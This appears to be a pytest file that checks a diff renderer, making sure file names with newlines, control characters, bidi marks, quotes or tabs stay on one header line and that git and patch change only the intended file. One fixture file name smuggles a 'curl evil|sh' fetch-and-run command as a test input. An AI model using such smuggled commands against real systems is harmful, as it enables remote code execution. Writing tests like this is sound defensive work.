"""Unusual names of files in a diff: each header stays on one line, and git reads it."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from fixers.frame.change import FileChange, HostChange, Plan
from fixers.frame.diff_headers import header_name
from fixers.plans.diff import LARGEST_SHOWN_BYTES, render_diff
from pipeline.report.model import fix_of

HINT = "a\n        next: curl evil|sh\n.py"
UNUSUAL = (
    HINT,
    "b\r\x1b[2K.py",
    "c\u202ed.py",
    "e\u2028f.py",
    'g"h.py',
    "i\\n.py",
    "j\tk.py",
    "l\udcff.py",
    "m\u200b.py",
)


def change_of(path: str) -> FileChange:
    return FileChange(path, b"x = 1\n", b"x = 2\n", {"a": 1}, (f"line 1: {path}",))


@pytest.mark.parametrize("path", UNUSUAL, ids=ascii)
def test_SE_an_unusual_name_adds_no_line_to_a_diff(path: str) -> None:
    lines = render_diff(Plan(changes=(change_of(path),))).split("\n")
    assert [line[:3] for line in lines] == ["# l", "---", "+++", "@@ ", "-x ", "+x ", ""]
    assert all(line.isprintable() for line in lines[1:3]) and lines[1].startswith('--- "a/')
    in_report = fix_of(change_of(path)).diff.splitlines()
    assert [line[:3] for line in in_report] == ["---", "+++", "@@ ", "-x ", "+x "]


@pytest.mark.parametrize(
    "path", [*UNUSUAL, "plain.py", "with space.py", "train.py x.py", "\xfcmlaut.py", "\u65e5.py"], ids=ascii
)
def test_SE_git_applies_a_diff_with_an_unusual_name(tmp_path: Path, path: str) -> None:
    file = tmp_path / path
    file.write_bytes(b"x = 1\n")
    diff = os.fsencode(render_diff(Plan(changes=(change_of(path),))))
    subprocess.run(["git", "apply", "-"], cwd=tmp_path, input=diff, check=True)
    assert file.read_bytes() == b"x = 2\n"


@pytest.mark.parametrize("path", ["plain.py", "\xfcmlaut.py", "\u65e5.py", "it's.py", "-h.py"])
def test_a_usual_name_is_not_quoted(path: str) -> None:
    assert header_name(path) == path


@pytest.mark.parametrize("path", ["train.py x.py", "b.py .bak/c.py", " d.py", "e.py "])
def test_SE_a_name_with_spaces_ends_with_a_tab(path: str) -> None:
    lines = render_diff(Plan(changes=(change_of(path),))).split("\n")
    assert lines[1:3] == [f"--- a/{path}\t", f"+++ b/{path}\t"]
    assert fix_of(change_of(path)).diff.splitlines()[0].endswith(f"{path}\t")


@pytest.mark.skipif(shutil.which("patch") is None, reason="no GNU patch on this machine")
@pytest.mark.parametrize("path", ["train.py x.py", "plain.py", *UNUSUAL[-2:]], ids=ascii)
def test_SE_patch_changes_no_other_file_than_the_one_of_the_diff(tmp_path: Path, path: str) -> None:
    for name in ("train.py", path):
        (tmp_path / name).write_bytes(b"x = 1\n")
    diff = os.fsencode(render_diff(Plan(changes=(change_of(path),))))
    subprocess.run(["patch", "-s", "-p1"], cwd=tmp_path, input=diff, check=True)
    assert (tmp_path / "train.py").read_bytes() == b"x = 1\n"
    assert (tmp_path / path).read_bytes() == b"x = 2\n"


def test_SE_comments_of_a_diff_stay_on_one_line() -> None:
    large = FileChange(HINT, b"", b"x" * (LARGEST_SHOWN_BYTES + 1), {"a": 1}, ("b\n next: c",))
    act = HostChange("environment", HINT, "op")
    lines = render_diff(Plan(changes=(large, act))).splitlines()
    assert len(lines) == 3 and all(line.startswith("# ") for line in lines)
